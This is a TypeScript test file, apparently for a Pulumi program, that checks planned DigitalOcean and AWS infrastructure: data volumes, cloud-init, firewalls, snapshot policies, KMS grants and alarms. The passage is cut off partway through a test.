// The cloud side through the offline plan: the data volume, its attachment, the host, its
// firewall, cloud-init, the readiness gate and the snapshot policy, for DigitalOcean and AWS.
import { test } from "node:test";
import * as assert from "node:assert/strict";
import { PlanDocument, PlannedResource } from "../../tools/planner";
import { onCalendar } from "../../components/backupSchedule";
import { awsDevicePath, digitalOceanDevicePath } from "../../components/dataVolume";
import { cloudNames } from "../../components/naming";
import { DLM_KMS_GRANT_ACTIONS, DLM_KMS_USE_ACTIONS, copyRetentionDays } from "../../components/snapshotPolicy";
import { diffPlans } from "../../tools/planDiff";
import { fakePassword } from "../../tools/planMocks";
import * as YAML from "yaml";
import * as zlib from "node:zlib";
import * as fs from "node:fs";
import { USER_DATA_LIMIT_BYTES, renderCloudInit, sshLoginFor } from "../../components/cloudInit";
import { shellQuote } from "../../components/hostFiles";
import { dockerSshEndpoint } from "../../components/dockerHost";
import { pinnedSshOptions } from "../../components/hostKey";
import { diffPlans as diffOfPlans } from "../../tools/planDiff";
import { batchedPlan, byName, goldenPlan, ofType, planBatchRaw, readStackKeys, writeStackConfig } from "./planRun";

const stagingKeys = readStackKeys("Pulumi.staging.yaml");
const productionKeys = readStackKeys("Pulumi.production.yaml");
const { volume: _stagingVolume, ...stagingWithoutVolume } = stagingKeys;
const TOKEN = "dop_v1_do-not-print-this-token";
/** The existing host's public host key, as `cat /etc/ssh/ssh_host_ed25519_key.pub` prints it there. */
const EXISTING_HOST_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMemVwqpVLt1uMZ1nT5LwqAfQXVwC4m/8FhBf3VpMCMo root@existing";
const KMS_KEY = "arn:aws:kms:eu-central-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab";
const { copyToRegion: _copyToRegion, copyRetain: _copyRetain, ...snapshotsWithoutCopies } = productionKeys.snapshots as Record<string, unknown>;

// staging and production are the committed golden plans (plan.test.ts checks them against a
// fresh run); the variant configs are planned one after the other in one child process.
const plans = (async () => {
    const [restored, adopted, existing, withToken, adoptedEbs, customerKey, noCopies, stagingRetain, productionDumpRetain, stagingSchedule, stagingBigger, stagingRevealed, productionRevealed, existingRevealed, keptKeyRevealed] = await planBatchRaw([
        ["--config-file", writeStackConfig({ ...productionKeys, volume: { sizeGb: 200, fromSnapshot: "snap-0123456789abcdef0" } }, "production")],
        ["--config-file", writeStackConfig({ ...stagingKeys, volume: { sizeGb: 100, name: "hand-built-data", adoptId: "506f78a4-e098-11e5-ad9f-000f53306ae1" } }, "staging")],
        ["--config-file", writeStackConfig({ ...stagingWithoutVolume, host: { address: "203.0.113.50", sshUser: "deploy", hostKey: EXISTING_HOST_KEY } }, "staging")],
        // A plain token is refused in a stack file; --set passes one, as a secret, like a decrypted one.
        ["--config-file", writeStackConfig(stagingKeys, "staging"), "--set", `snapshotApiToken=${TOKEN}`],
        ["--config-file", writeStackConfig({ ...productionKeys, volume: { sizeGb: 200, adoptId: "vol-0123456789abcdef0" } }, "production")],
        ["--config-file", writeStackConfig({ ...productionKeys, volume: { sizeGb: 200, kmsKeyId: KMS_KEY } }, "production")],
        ["--config-file", writeStackConfig({ ...productionKeys, snapshots: snapshotsWithoutCopies }, "production")],
        ["--config-file", writeStackConfig({ ...stagingKeys, snapshots: { ...(stagingKeys.snapshots as object), retain: 8 } }, "staging")],
        ["--config-file", writeStackConfig({ ...productionKeys, snapshots: { ...(productionKeys.snapshots as object), dumpRetain: 15 } }, "production")],
        ["--config-file", writeStackConfig({ ...stagingKeys, snapshots: { ...(stagingKeys.snapshots as object), everyHours: 12, at: "01:00" } }, "staging")],
        ["--config-file", writeStackConfig({ ...stagingKeys, volume: { sizeGb: 200 } }, "staging")],
        // Command connections are secret inputs; these two show them.
        ["--stack", "staging", "--reveal-secrets"],
        ["--stack", "production", "--reveal-secrets"],
        ["--config-file", writeStackConfig({ ...stagingWithoutVolume, host: { address: "203.0.113.50", sshUser: "deploy", hostKey: EXISTING_HOST_KEY } }, "staging"), "--reveal-secrets"],
        // A Droplet created before the program generated host keys, kept with its own key.
        ["--config-file", writeStackConfig({ ...stagingKeys, host: { ...(stagingKeys.host as object), hostKey: EXISTING_HOST_KEY } }, "staging"), "--reveal-secrets"],
    ]);
    return {
        staging: goldenPlan("staging"), production: goldenPlan("production"),
        restored: batchedPlan(restored), adopted: batchedPlan(adopted), existing: batchedPlan(existing), withToken,
        adoptedEbs: batchedPlan(adoptedEbs), customerKey: batchedPlan(customerKey), noCopies: batchedPlan(noCopies),
        stagingRetain: batchedPlan(stagingRetain), productionDumpRetain: batchedPlan(productionDumpRetain), stagingSchedule: batchedPlan(stagingSchedule),
        stagingBigger: batchedPlan(stagingBigger),
        stagingRevealed: batchedPlan(stagingRevealed), productionRevealed: batchedPlan(productionRevealed),
        existingRevealed: batchedPlan(existingRevealed), keptKeyRevealed: batchedPlan(keptKeyRevealed),
    };
})();

function userData(plan: PlanDocument): string {
    const machine = plan.resources.find((r) => r.name === "host-droplet" || r.name === "host-instance")!;
    return machine.inputs.userData as string;
}

/** The files and units the host's settings command installs (its standard input), decoded. */
function settingsBundle(plan: PlanDocument): { files: Map<string, string>; enable: string[] } {
    const bundle = JSON.parse(byName(plan, "host-settings").inputs.stdin as string);
    return {
        files: new Map(bundle.files.map((f: any) => [f.path, Buffer.from(f.content, "base64").toString("utf8")])),
        enable: bundle.enable,
    };
}

/** The files cloud-init writes, decoded. */
function writtenFiles(cloudInit: string): Map<string, string> {
    const doc = YAML.parse(cloudInit) as { write_files: { path: string; encoding: string; content: string }[] };
    const decoded = (f: { encoding: string; content: string }) => (f.encoding === "gz+b64" ? zlib.gunzipSync(Buffer.from(f.content, "base64")) : Buffer.from(f.content, "base64"));
    return new Map(doc.write_files.map((f) => [f.path, decoded(f).toString("utf8")]));
}

/** Does `r` depend on `target`, directly or through other resources? */
function dependsOnTransitively(plan: PlanDocument, r: PlannedResource, target: string): boolean {
    const byUrn = new Map(plan.resources.map((x) => [x.urn, x]));
    const seen = new Set<string>();
    const stack = [...r.dependsOn, ...(r.provider ? [r.provider] : [])];
    while (stack.length) {
        const urn = stack.pop()!;
        if (urn === target) return true;
        if (seen.has(urn)) continue;
        seen.add(urn);
        const next = byUrn.get(urn);
        if (next) stack.push(...next.dependsOn, ...(next.provider ? [next.provider] : []));
    }
    return false;
}

test("the data volume is protected, explicitly named, and attached by an attachment only", async () => {
    const { staging, production } = await plans;
    const doVolume = byName(staging, "data-volume");
    assert.equal(doVolume.type, "digitalocean:index/volume:Volume");
    assert.equal(doVolume.protect, true);
    assert.equal(doVolume.inputs.name, "housing-portal-staging-data");
    assert.equal(doVolume.inputs.initialFilesystemType, undefined, "the host formats only a blank device");
    assert.equal(byName(staging, "host-droplet").inputs.volumeIds, undefined, "never volumeIds together with an attachment");
    const doAttach = byName(staging, "data-attachment");
    assert.equal(doAttach.inputs.volumeId, staging.outputs.volumeId);
    assert.equal(doAttach.deleteBeforeReplace, true, "a DigitalOcean volume attaches to one Droplet at a time: detached before it is attached again");

    const ebs = byName(production, "data-volume");
    assert.equal(ebs.type, "aws:ebs/volume:Volume");
    assert.equal(ebs.protect, true);
    assert.deepEqual([ebs.inputs.type, ebs.inputs.encrypted, ebs.inputs.size], ["gp3", true, 200]);
    assert.equal(ebs.inputs.availabilityZone, byName(production, "host-instance").inputs.availabilityZone, "same AZ as the instance");
    const ebsAttach = byName(production, "data-attachment");
    assert.equal(ebsAttach.deleteBeforeReplace, true);
    assert.equal(ebsAttach.inputs.stopInstanceBeforeDetaching, true);
});

test("fromSnapshot creates the volume from that snapshot; adoptId imports it and never creates one", async () => {
    const { restored, adopted, staging } = await plans;
    assert.equal(byName(restored, "data-volume").inputs.snapshotId, "snap-0123456789abcdef0");
    const volume = byName(adopted, "data-volume");
    assert.equal(volume.import, "506f78a4-e098-11e5-ad9f-000f53306ae1");
    assert.equal(volume.protect, true);
    assert.equal(adopted.outputs.volumeId, "506f78a4-e098-11e5-ad9f-000f53306ae1");
    // volume.name keeps the adopted volume's own name, and the host mounts it by that name.
    assert.equal(volume.inputs.name, "hand-built-data");
    assert.equal(adopted.outputs.devicePath, digitalOceanDevicePath("hand-built-data"));
    assert.equal(byName(staging, "data-volume").inputs.name, "housing-portal-staging-data", "the default name");
});

test("an adopted volume is imported as it is: its description and tags are not the program's to change", async () => {
    const { adopted, adoptedEbs, staging, production } = await plans;
    // DigitalOcean replaces a volume whose description changes; an import must match the volume.
    assert.deepEqual(byName(adopted, "data-volume").ignoreChanges, ["description", "tags"]);
    assert.deepEqual(byName(staging, "data-volume").ignoreChanges, [], "a volume the stack created follows the program");
    const ebs = byName(adoptedEbs, "data-volume");
    assert.equal(ebs.import, "vol-0123456789abcdef0");
    assert.deepEqual(ebs.ignoreChanges, ["tags"]);
    // The DLM policy still finds it: the target tag is a resource of its own on the adopted volume.
    const tag = byName(adoptedEbs, "data-snapshot-target-tag");
    const target = (byName(adoptedEbs, "snapshots-policy").inputs.policyDetails as any).targetTags;
    assert.deepEqual({ [tag.inputs.key as string]: tag.inputs.value }, target);
    assert.equal(tag.inputs.resourceId, "vol-0123456789abcdef0");
    assert.deepEqual(ofType(production, "aws:ec2/tag:Tag"), [], "a created volume carries the tag itself");
});

test("device paths are the stable by-id ones, and cloud-init mounts that device", async () => {
    // The user data is secret (it holds the host key): the revealed plans show it.
    const { stagingRevealed: staging, productionRevealed: production } = await plans;
    assert.equal(digitalOceanDevicePath("housing-portal-staging-data"), "/dev/disk/by-id/scsi-0DO_Volume_housing-portal-staging-data");
    assert.equal(awsDevicePath("vol-0abc123"), "/dev/disk/by-id/nvme-Amazon_Elastic_Block_Store_vol0abc123");
    assert.equal(staging.outputs.devicePath, digitalOceanDevicePath("housing-portal-staging-data"));
    assert.equal(production.outputs.devicePath, awsDevicePath(production.outputs.volumeId as string));
    for (const plan of [staging, production]) {
        const ud = userData(plan);
        assert.match(ud, /^#cloud-config\n/);
        assert.ok(ud.includes(`DEVICE=${plan.outputs.devicePath} MOUNT_POINT=/mnt/data WAIT_SECONDS=900 /usr/local/sbin/housing-portal-mount-data-volume || exit 1`));
        assert.doesNotMatch(ud, /\/dev\/xvdf/);
    }
});

test("cloud-init holds only the first boot: the base scripts read from host/, the mount before Docker, Docker requiring the mount", async () => {
    const { stagingRevealed: staging, productionRevealed: production } = await plans;
    const fs = await import("fs");
    for (const plan of [staging, production]) {
        const ud = userData(plan);
        const files = writtenFiles(ud);
        assert.deepEqual([...files.keys()].sort(), [
            "/etc/systemd/system/docker.service.d/housing-portal-data.conf",
            "/usr/local/sbin/housing-portal-mount-data-volume",
        ], "no other script, no backup unit, schedule or retention in user data: a change to them must not replace the machine");
        assert.equal(files.get("/usr/local/sbin/housing-portal-mount-data-volume"), fs.readFileSync("host/mount-data-volume.sh", "utf8"));
        assert.equal(files.get("/etc/systemd/system/docker.service.d/housing-portal-data.conf"), "[Unit]\nRequiresMountsFor=/mnt/data\n");
        const runcmd = ud.slice(ud.indexOf("runcmd:"));
        assert.ok(runcmd.indexOf("housing-portal-mount-data-volume") < runcmd.indexOf("docker.io"), "the volume is mounted before Docker is installed");
        assert.doesNotMatch(runcmd, /timer/);
    }
});

test("the user data fits its cloud's limit, its files compressed (gz+b64) and read back by another gzip implementation", async () => {
    const { stagingRevealed: staging, productionRevealed: production } = await plans;
    for (const [plan, cloud] of [[staging, "digitalocean"], [production, "aws"]] as const) {
        const ud = userData(plan);
        assert.ok(Buffer.byteLength(ud, "utf8") <= USER_DATA_LIMIT_BYTES[cloud], `${plan.stack}: ${Buffer.byteLength(ud, "utf8")} bytes of user data, ${cloud} takes ${USER_DATA_LIMIT_BYTES[cloud]}`);
        const doc = YAML.parse(ud) as { write_files: { encoding: string }[] };
        assert.deepEqual([...new Set(doc.write_files.map((f) => f.encoding))], ["gz+b64"]);
    }
    // EC2 counts the raw bytes: the AWS stack's would not fit with the mount script only base64-encoded.
    const script = (await import("fs")).readFileSync("host/mount-data-volume.sh");
    assert.ok(Math.ceil(script.length / 3) * 4 > USER_DATA_LIMIT_BYTES.aws, "the check above guards a real limit");
});

test("the host's settings arrive over SSH: the installer, then the bundle of scripts, units and settings files", async () => {
    const { staging, production, existing } = await plans;
    const fs = await import("fs");
    for (const plan of [staging, production, existing]) {
        // Every cloud stack logs in as a non-root user (DigitalOcean's deploy user, the AMI's ubuntu).
        const sudo = "sudo ";
        const tools = byName(plan, "host-tools");
        assert.equal(tools.inputs.create, `${sudo}env install -m 0755 /dev/stdin /usr/local/sbin/housing-portal-apply-host-files`);
        assert.equal(tools.inputs.stdin, fs.readFileSync("host/apply-host-files.sh", "utf8"));
        const settings = byName(plan, "host-settings");
        assert.equal(settings.inputs.create, `${sudo}env /usr/local/sbin/housing-portal-apply-host-files`);
        assert.ok(settings.dependsOn.includes(tools.urn), "the installer first");
        assert.ok(tools.dependsOn.includes(byName(plan, "host-ready").urn), "on a ready host");
        assert.match(String((settings.inputs.triggers as string[])[0]), /^host-ready-/, "again on a new machine (the gate's id)");
        assert.deepEqual(settings.inputs.triggers, tools.inputs.triggers);
        const { files } = settingsBundle(plan);
        for (const script of ["write-secret", "dump-databases", "backup-status"]) {
            assert.equal(files.get(`/usr/local/sbin/housing-portal-${script}`), fs.readFileSync(`host/${script}.sh`, "utf8"), `${plan.stack}: ${script}`);
        }
    }
});

test("a backup setting changes the host's settings command only, in place: never the machine", async () => {
    const { staging, production, stagingRetain, productionDumpRetain, stagingSchedule } = await plans;
    for (const [before, after, file, line] of [
        [staging, stagingRetain, "/etc/housing-portal/snapshot.env", /^RETAIN=8$/m],
        [production, productionDumpRetain, "/etc/housing-portal/dump.env", /^RETAIN=15$/m],
        [staging, stagingSchedule, "/etc/systemd/system/housing-portal-snapshot.timer", /^OnCalendar=\*-\*-\* 01,13:00:00 UTC$/m],
    ] as const) {
        const diff = diffPlans(before, after);
        assert.deepEqual([diff.added, diff.removed], [[], []], `${after.stack}: nothing added or removed`);
        assert.deepEqual(diff.changed.map((c) => [c.resource.name, c.fields, c.replaced]), [["host-settings", ["stdin"], false]],
            `${after.stack}: one update, in place`);
        assert.match(settingsBundle(after).files.get(file)!, line);
    }
});

test("a bigger volume is resized in place and its file system grown online in the same run", async () => {
    const { staging, stagingBigger } = await plans;
    const diff = diffPlans(staging, stagingBigger);
    assert.deepEqual([diff.added, diff.removed], [[], []]);
    assert.deepEqual(diff.changed.map((c) => [c.resource.name, c.fields, c.replaced]).sort(), [
        ["data-volume", ["size"], false],
        ["host-grow-volume", ["create"], false],
    ]);
    const grow = byName(stagingBigger, "host-grow-volume");
    assert.equal(grow.inputs.create, `sudo env DEVICE=${staging.outputs.devicePath} EXPECT_GB=200 MOUNT_POINT=/mnt/data /usr/local/sbin/housing-portal-grow-data-volume`);
    assert.ok(grow.dependsOn.includes(byName(stagingBigger, "data").urn), "after the cloud resized the volume");
    assert.ok(grow.dependsOn.includes(byName(stagingBigger, "host-settings").urn), "with the script installed");
    assert.equal(settingsBundle(stagingBigger).files.get("/usr/local/sbin/housing-portal-grow-data-volume"), (await import("fs")).readFileSync("host/grow-data-volume.sh", "utf8"));
});

test("DigitalOcean: snapshot and dump timers from the schedule, the token only over SSH", async () => {
    const { staging, withToken } = await plans;
    const { files, enable } = settingsBundle(staging);
    assert.match(files.get("/etc/systemd/system/housing-portal-snapshot.timer")!, /^OnCalendar=\*-\*-\* 02:30:00 UTC$/m);
    assert.match(files.get("/etc/systemd/system/housing-portal-snapshot.timer")!, /^Persistent=true$/m);
    assert.match(files.get("/etc/systemd/system/housing-portal-dump.timer")!, /^OnCalendar=\*-\*-\* 02:15:00 UTC$/m);
    const env = files.get("/etc/housing-portal/snapshot.env")!;
    assert.match(env, new RegExp(`^VOLUME_ID=${staging.outputs.volumeId}$`, "m"));
    assert.match(env, /^RETAIN=7$/m);
    assert.match(env, /^SNAPSHOT_PREFIX=housing-portal-staging$/m);
    assert.match(env, /^TOKEN_FILE=\/etc\/housing-portal\/do-token$/m);
    assert.match(files.get("/etc/housing-portal/dump.env")!, /^RETAIN=7$/m);
    assert.equal(files.get("/usr/local/sbin/housing-portal-snapshot-volume"), (await import("fs")).readFileSync("host/snapshot-volume.sh", "utf8"));
    assert.deepEqual(enable.sort(), ["housing-portal-backup-status.timer", "housing-portal-block-container-metadata.service", "housing-portal-dump.timer", "housing-portal-offsite.timer", "housing-portal-restore-check.timer", "housing-portal-snapshot.timer"]);

    assert.ok(withToken.ok, withToken.ok ? "" : withToken.problems.join("\n"));
    assert.ok(!withToken.json.includes(TOKEN), "the token appears nowhere in the plan");
    const plan = JSON.parse(withToken.json) as PlanDocument;
    const token = byName(plan, "snapshots-api-token");
    assert.equal(token.inputs.stdin, "[secret]");
    assert.equal(token.inputs.create, "sudo env TARGET=/etc/housing-portal/do-token /usr/local/sbin/housing-portal-write-secret");
    assert.ok(token.dependsOn.includes(byName(plan, "host-settings").urn), "written once write-secret.sh is installed with the settings");
});

test("AWS: a DLM policy on the tag the data volume really carries, with its role and the configured schedule", async () => {
    const { production } = await plans;
    const policy = byName(production, "snapshots-policy");
    const details = policy.inputs.policyDetails as any;
    const tag = cloudNames("production").snapshotTargetTag;
    assert.deepEqual(details.targetTags, { [tag.key]: tag.value });
    const volumeTags = byName(production, "data-volume").inputs.tags as Record<string, string>;
    for (const [k, v] of Object.entries(details.targetTags)) assert.equal(volumeTags[k], v, "a target tag on no volume snapshots nothing");
    assert.deepEqual(details.resourceTypes, ["VOLUME"]);
    const schedule = details.schedules[0];
    assert.deepEqual(schedule.createRule, { interval: 12, intervalUnit: "HOURS", times: "03:00" });
    assert.deepEqual(schedule.retainRule, { count: 14 });
    assert.equal(schedule.copyTags, true);
    assert.deepEqual(schedule.crossRegionCopyRules, [{ copyTags: true, encrypted: true, retainRule: { interval: 4, intervalUnit: "DAYS" }, target: "eu-west-1" }]);
    const role = byName(production, "snapshots-dlm-role");
    assert.equal(JSON.parse(role.inputs.assumeRolePolicy as string).Statement[0].Principal.Service, "dlm.amazonaws.com");
    assert.equal(byName(production, "snapshots-dlm-role-policy").inputs.policyArn, "arn:aws:iam::aws:policy/service-role/AWSDataLifecycleManagerServiceRole");
    const { files, enable } = settingsBundle(production);
    assert.equal(files.get("/etc/systemd/system/housing-portal-snapshot.timer"), undefined, "DLM snapshots on AWS, no host timer");
    assert.ok(!enable.includes("housing-portal-snapshot.timer"));
    assert.match(files.get("/etc/systemd/system/housing-portal-dump.timer")!, /^OnCalendar=\*-\*-\* 02,14:45:00 UTC$/m);
    assert.match(files.get("/etc/housing-portal/backup-status.env")!, /^CHECKS=dump offsite restore-check$/m);
});

test("AWS: DLM's failures alarm to the stack's SNS topic, on the policy's own id; the topic's ARN is an output", async () => {
    const { production, noCopies, staging } = await plans;
    const names = cloudNames("production");
    const topic = byName(production, "snapshots-alerts");
    assert.equal(topic.type, "aws:sns/topic:Topic");
    assert.equal(topic.inputs.name, names.alertsTopic);
    assert.equal(production.outputs.alertsTopicArn, `arn:aws:sns:eu-central-1:123456789012:${names.alertsTopic}`, "operators subscribe to it");
    const policy = byName(production, "snapshots-policy");
    const alarms = ofType(production, "aws:cloudwatch/metricAlarm:MetricAlarm");
    assert.deepEqual(alarms.map((a) => [a.name, a.inputs.metricName, a.inputs.name]).sort(), [
        ["snapshots-copy-failed", "SnapshotsCopiedRegionFailed", names.snapshotAlarms.copyFailed],
        ["snapshots-create-failed", "SnapshotsCreateFailed", names.snapshotAlarms.createFailed],
    ]);
    for (const alarm of alarms) {
        assert.equal(alarm.inputs.namespace, "AWS/EBS", alarm.name);
        const dimensions = alarm.inputs.dimensions as Record<string, string>;
        assert.deepEqual(Object.keys(dimensions), ["DLMPolicyId"], alarm.name);
        assert.match(dimensions.DLMPolicyId, /^policy-[0-9a-f]{17}$/, "the DLM policy's id");
        assert.ok(alarm.dependsOn.includes(policy.urn), `${alarm.name} watches the stack's DLM policy`);
        assert.deepEqual([alarm.inputs.statistic, alarm.inputs.threshold, alarm.inputs.comparisonOperator, alarm.inputs.evaluationPeriods],
            ["Sum", 1, "GreaterThanOrEqualToThreshold", 1], `${alarm.name}: one failure in a period fires`);
        assert.equal(alarm.inputs.treatMissingData, "notBreaching", "DLM publishes only when it runs");
        assert.deepEqual(alarm.inputs.alarmActions, [production.outputs.alertsTopicArn], alarm.name);
        assert.deepEqual(alarm.inputs.okActions, [production.outputs.alertsTopicArn], alarm.name);
    }
    assert.equal(new Set(alarms.map((a) => (a.inputs.dimensions as any).DLMPolicyId)).size, 1, "both on the one policy");

    // Without copyToRegion there are no copies to fail: the create alarm only.
    assert.deepEqual(ofType(noCopies, "aws:cloudwatch/metricAlarm:MetricAlarm").map((a) => a.inputs.metricName), ["SnapshotsCreateFailed"]);
    // DigitalOcean has no DLM: its snapshots are watched on the host (backup-status).
    assert.deepEqual(ofType(staging, "aws:sns/topic:Topic"), []);
    assert.equal(staging.outputs.alertsTopicArn, undefined);
});

test("AWS: with a customer KMS key the DLM role may use exactly that key, with the documented actions; without one, no KMS policy", async () => {
    const { production, customerKey } = await plans;
    assert.equal(byName(customerKey, "data-volume").inputs.kmsKeyId, KMS_KEY);
    const kms = ofType(customerKey, "aws:iam/rolePolicy:RolePolicy").filter((p) => p.name !== "snapshots-host-publish");
    assert.equal(kms.length, 1);
    assert.equal(kms[0].inputs.role, byName(customerKey, "snapshots-dlm-role-policy").inputs.role, "on the DLM role");
    const doc = JSON.parse(kms[0].inputs.policy as string);
    assert.ok(doc.Statement.every((st: any) => st.Effect === "Allow" && st.Resource === KMS_KEY), "only that key's ARN");
    const actions = doc.Statement.flatMap((st: any) => st.Action).sort();
    assert.deepEqual(actions, [...DLM_KMS_GRANT_ACTIONS, ...DLM_KMS_USE_ACTIONS].sort());
    assert.deepEqual(actions, ["kms:CreateGrant", "kms:Decrypt", "kms:DescribeKey", "kms:Encrypt", "kms:GenerateDataKey*", "kms:ListGrants",
        "kms:ReEncrypt*", "kms:RevokeGrant"]);
    const grants = doc.Statement.find((st: any) => st.Action.includes("kms:CreateGrant"));
    assert.deepEqual(grants.Condition, { Bool: { "kms:GrantIsForAWSResource": "true" } }, "grants for EBS only");
    assert.ok(byName(customerKey, "snapshots-policy").dependsOn.includes(kms[0].urn), "the policy runs only once the role may use the key");
    // The copy in the other region stays on that region's default EBS key: no cmkArn to a key the role may not use.
    const copy = (byName(customerKey, "snapshots-policy").inputs.policyDetails as any).schedules[0].crossRegionCopyRules[0];
    assert.deepEqual([copy.encrypted, copy.cmkArn], [true, undefined]);

    assert.deepEqual(ofType(production, "aws:iam/rolePolicy:RolePolicy").map((p) => p.name), ["snapshots-host-publish"], "no customer key, no KMS permissions");
    assert.equal(JSON.stringify(production).includes("kms:"), false);
});

test("SSH only from the configured CIDRs; the edge's 80 and 443 from anywhere, and nothing else", async () => {
    const { staging, production } = await plans;
    const inbound = byName(staging, "host-firewall").inputs.inboundRules as any[];
    assert.deepEqual(inbound.find((r) => r.portRange === "22").sourceAddresses, ["203.0.113.0/24"]);
    assert.deepEqual(inbound.map((r) => r.portRange).sort(), ["22", "443", "80"]);
    // By tag, which the Droplet carries from its creation: never open between its boot and an attachment by id.
    const firewall = byName(staging, "host-firewall");
    assert.equal(firewall.inputs.dropletIds, undefined);
    assert.deepEqual(firewall.inputs.tags, ["housing-portal-staging"]);
    assert.ok((byName(staging, "host-droplet").inputs.tags as string[]).includes("housing-portal-staging"));
    assert.ok(byName(staging, "host-droplet").dependsOn.includes(firewall.urn), "the machine is created behind its firewall");
    assert.ok(firewall.dependsOn.includes(byName(staging, "host-tag").urn));
    // One firewall: no per-instance port rules (the edge serves every instance on 443).
    assert.deepEqual(ofType(staging, "digitalocean:index/firewall:Firewall").map((f) => f.name), ["host-firewall"]);

    // AWS: no inline ingress (it would fight the separate rules); every rule is its own resource.
    assert.equal(byName(production, "host-security-group").inputs.ingress, undefined);
    const rules = ofType(production, "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule");
    const cidr = (r: PlannedResource) => String(r.inputs.cidrIpv4 ?? r.inputs.cidrIpv6);
    const ssh = rules.filter((r) => r.inputs.fromPort === 22);
    assert.deepEqual(ssh.map(cidr), ["198.51.100.0/24"]);
    for (const r of rules) {
        assert.equal(r.inputs.fromPort, r.inputs.toPort);
        assert.equal(r.inputs.securityGroupId, rules[0].inputs.securityGroupId);
        assert.ok(r.dependsOn.includes(byName(production, "host-security-group").urn), `${r.name} is not on the host's group`);
        if (r.inputs.fromPort !== 22) assert.ok(["0.0.0.0/0", "::/0"].includes(cidr(r)), `${r.name} is open to ${cidr(r)}`);
    }
    const ports = (names: string) => rules.filter((r) => r.name.startsWith(names)).map((r) => `${r.inputs.fromPort} ${cidr(r)}`).sort();
    assert.deepEqual(ports("host-ingress-80"), ["80 0.0.0.0/0", "80 ::/0"]);
    assert.deepEqual(ports("host-ingress-443"), ["443 0.0.0.0/0", "443 ::/0"]);
    assert.deepEqual([...new Set(rules.map((r) => r.inputs.fromPort))].sort(), [22, 443, 80], "80, 443 and 22 only");
});

test("AWS host: IMDSv2 required, encrypted root disk, an Elastic IP; DigitalOcean: monitoring and a reserved IP", async () => {
    const { staging, production } = await plans;
    const instance = byName(production, "host-instance");
    assert.equal((instance.inputs.metadataOptions as any).httpTokens, "required");
    assert.equal((instance.inputs.rootBlockDevice as any).encrypted, true);
    assert.equal(instance.inputs.userDataReplaceOnChange, true);
    assert.equal(byName(production, "host-eip").protect, true);
    assert.equal(byName(production, "host-key").deleteBeforeReplace, true, "the key pair's fixed name cannot exist twice");
    assert.equal(production.outputs.hostAddress, (production.resources.find((r) => r.name === "host-docker")!.inputs.host as string).split("@")[1]);
    const droplet = byName(staging, "host-droplet");
    assert.equal(droplet.inputs.monitoring, true);
    assert.deepEqual(droplet.inputs.sshKeys, ["3b:16:bf:e4:8b:00:8b:b8:59:8c:a9:d3:f0:19:45:fa"]);
    assert.equal(byName(staging, "host-ip").protect, true);
    assert.equal(byName(staging, "host-ip-assignment").inputs.ipAddress, staging.outputs.hostAddress);
});

test("every Docker resource waits for the readiness gate, which waits for the volume attachment", async () => {
    const { staging, production } = await plans;
    for (const plan of [staging, production]) {
        const gate = byName(plan, "host-ready");
        assert.ok(gate.dependsOn.includes(byName(plan, "data-attachment").urn));
        assert.equal(gate.inputs.create, "sudo env DATA_ROOT=/mnt/data bash -s");
        const provider = byName(plan, "host-docker");
        assert.equal(provider.inputs.host, `ssh://${plan.stack === "production" ? "ubuntu" : "deploy"}@${plan.outputs.hostAddress}`);
        const dockerResources = plan.resources.filter((r) => r.type.startsWith("docker:"));
        assert.ok(dockerResources.length > 0);
        for (const r of dockerResources) {
            assert.equal(r.provider, provider.urn, `${r.name} uses the host's provider`);
            assert.ok(dependsOnTransitively(plan, r, gate.urn), `${r.name} waits for the gate`);
        }
        for (const dirs of ofType(plan, "command:remote:Command").filter((r) => r.name.endsWith("-dirs"))) {
            assert.ok(dirs.dependsOn.includes(gate.urn));
        }
    }
});

test("a replaced machine gets every container, network and image again; the database volume's record stays the same", async () => {
    const { staging, production, existing, stagingRetain } = await plans;
    for (const plan of [staging, production, existing]) {
        // The gate's trigger is the machine's identity: the id of a created machine, an existing host's address.
        const machine = (byName(plan, "host-ready").inputs.triggers as string[] | undefined)?.[0] ?? plan.outputs.hostAddress;
        assert.ok(machine, `${plan.stack}: a machine identity`);
        const labelled = plan.resources.filter((r) => r.type === "docker:index/container:Container" || r.type === "docker:index/network:Network");
        assert.ok(labelled.length >= 8);
        for (const r of labelled) {
            const labels = Object.fromEntries((r.inputs.labels as { label: string; value: string }[]).map((l) => [l.label, l.value]));
            assert.equal(labels["housing-portal.machine"], machine, `${plan.stack}: ${r.name} is created again on a new machine`);
        }
        for (const image of ofType(plan, "docker:index/remoteImage:RemoteImage")) {
            assert.deepEqual(image.inputs.triggers, { "housing-portal.machine": machine }, `${image.name} is pulled again onto a new engine`);
        }
        for (const volume of ofType(plan, "docker:index/volume:Volume")) {
            assert.ok(!(volume.inputs.labels as any[]).some((l) => l.label === "housing-portal.machine"), `${volume.name}: protected, never replaced`);
        }
    }
    // A machine's identity is not its settings: a retention change keeps every label.
    const labelsOf = (p: PlanDocument) => ofType(p, "docker:index/container:Container").map((c) => JSON.stringify(c.inputs.labels));
    assert.deepEqual(labelsOf(stagingRetain), labelsOf(staging));
});

test("the readiness gate waits until the volume is attached and the stable address leads to the machine", async () => {
    const { staging, production } = await plans;
    const after = (plan: PlanDocument, names: string[]) => names.every((n) => byName(plan, "host-ready").dependsOn.includes(byName(plan, n).urn));
    assert.ok(after(staging, ["data-attachment", "host-ip-assignment"]), "DigitalOcean: attachment and reserved IP assignment");
    assert.ok(after(production, ["data-attachment", "host-eip-association"]), "AWS: attachment and Elastic IP association");
});

test("before the volume is detached from a machine, that machine stops its containers and Docker and unmounts it", async () => {
    const { stagingRevealed: staging, productionRevealed: production } = await plans;
    for (const [plan, machine, own] of [[staging, "host-droplet", "ipv4Address"], [production, "host-instance", "publicIp"]] as const) {
        const release = byName(plan, "host-release-volume");
        assert.equal(release.inputs.delete, `sudo env MOUNT_POINT=/mnt/data /usr/local/sbin/housing-portal-release-data-volume`);
        assert.equal(release.inputs.create, undefined, "nothing to do while the machine has the volume");
        // The machine's own address, not the stable one that a replacement moves to the new machine.
        const connection = release.inputs.connection as { host: string; user: string };
        assert.notEqual(connection.host, plan.outputs.hostAddress, "not the reserved / elastic IP");
        assert.match(connection.host, /^192\.0\.2\.\d+$/, `${machine}.${own}`);
        assert.deepEqual(connection.user, (byName(plan, "host-ready").inputs.connection as any).user);
        // The attachment's id is an input: Pulumi deletes this before the attachment it replaces delete-first.
        const attachment = byName(plan, "data-attachment");
        assert.equal(attachment.deleteBeforeReplace, true);
